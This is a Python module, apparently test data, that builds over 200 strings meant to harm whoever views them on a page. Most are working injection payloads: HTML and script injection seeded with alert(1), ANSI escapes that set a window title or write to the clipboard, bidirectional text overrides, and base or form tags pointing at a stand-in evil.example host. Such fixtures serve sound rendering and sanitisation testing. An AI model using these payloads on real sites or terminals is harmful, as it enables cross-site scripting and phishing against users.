"""Texts that somebody may type, or a client may call itself, to harm whoever reads them on a page: 200 and more."""

KINDS = {
    "ANSI": ["\x1b[31m{}", "\x1b]0;{}\x07", "\x1b]8;;https://evil.example\x1b\\{}", "\x9b2J{}", "{}\x08\x08", "\x1b[2J\x1b[H{}",
             "\x1bP{}\x1b\\", "{}\x7f", "\x1b[8m{}", "\x1b]52;c;{}\x07"],
    "direction": ["\u202e{}", "\u2066{}\u2069", "{}\u200f", "\u061c{}", "\u202d{}\u202c", "\u2067{}", "a\u200b{}", "\ufeff{}",
                  "\u2028{}", "\u2029{}"],
    "HTML": ["<b>{}</b>", "\"><img src=x onerror={}>", "' onmouseover='{}", "</title>{}", "<!-- {}", "]]>{}", "&lt;{}&gt;", "&#x3c;{}",
             "<base href=//evil.example>{}", "<meta http-equiv=refresh content=0>{}", "</li></ul>{}", "<form action=//evil.example>{}",
             "<svg onload={}>", "<math><mtext>{}", "<iframe srcdoc={}>", "<style>*{{display:none}}</style>{}", "<bdi></bdi>{}",
             "<details open ontoggle={}>", "<plaintext>{}", "<textarea>{}"],
    "script": ["<script>{}</script>", "</script><script>{}", "javascript:{}", "`${{{}}}`", "');{}//", "\\u003cscript\\u003e{}",
               "%3Cscript%3E{}", "data:text/html,{}", "vbscript:{}", "\\x3cscript>{}"],
    "mustache": ["{{{{{}}}}}", "{{{{{{{}}}}}}}", "{{{{#page}}}}{}{{{{/page}}}}", "{{{{>layout}}}}{}", "{{{{=<% %>=}}}}{}", "{{{{!{}}}}}",
                 "{{{{^{}}}}}", "{{{{&formToken}}}}{}", "{{{{formToken}}}}{}", "{{{{<layout}}}}{}"],
    "long": ["x" * 200 + "{}", "W" * 120 + "{}", "{}" + " y" * 90, "{}" + "i" * 150, "\u0301" * 60 + "{}"],
    "emoji": ["👩‍👩‍👧{}", "🏳️‍🌈{}", "{}🔑", "\U0001f1e9\U0001f1ea{}", "e\u0301{}", "Ⅻ{}", "ﷺ{}", "𝒳{}", "한{}", "漢字{}"],
    "NUL-like": ["\u2400{}", "%00{}", "\\0{}", "&#0;{}", "\\u0000{}", "{}\ufffd", "\ufffe{}", "\U000e0041{}", "\x01{}", "\x1f{}"],
}
SEEDS = ("alert(1)", "ada", "1")
TEXTS = [form.format(f"{seed}") for forms in KINDS.values() for form in forms for seed in SEEDS]
